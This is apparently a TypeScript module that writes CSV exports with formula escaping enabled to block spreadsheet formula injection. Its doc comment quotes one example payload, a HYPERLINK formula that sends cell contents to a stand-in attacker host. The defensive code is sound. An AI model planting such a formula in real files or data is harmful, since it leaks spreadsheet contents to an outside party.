import { stringify } from 'csv-stringify/sync';

/**
 * The one CSV writer of every export (the batch CLI's `--out`, a monitor's history): keywords, titles, links and
 * failure reasons are anyone's text, and a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return would
 * be a live formula in a spreadsheet (a keyword `=HYPERLINK("http://evil.example/?"&A1,"click")` leaks the sheet).
 * Such a cell gets a leading `'` (csv-stringify's `escape_formulas`), and a cell with a quote, a comma or a line break
 * is quoted (docs/security.md#exports).
 */
const OPTIONS = { escape_formulas: true } as const;

export type CsvValue = string | number | null | undefined;

/** rows as CSV lines, each ended by `\n`; no rows, no text */
export const csvLines = (rows: ReadonlyArray<ReadonlyArray<CsvValue>>): string =>
  rows.length === 0
    ? ''
    : stringify(
        rows.map((r) => r.map((v) => v ?? '')),
        OPTIONS,
      );

/** one cell as it stands in a line (escaped and quoted as `csvLines` writes it), for writers that build lines from cells they reuse */
export const csvCell = (v: CsvValue): string => {
  if (v === null || v === undefined || v === '') return '';
  const line = stringify([[v]], OPTIONS);
  return line.slice(0, -1);
};
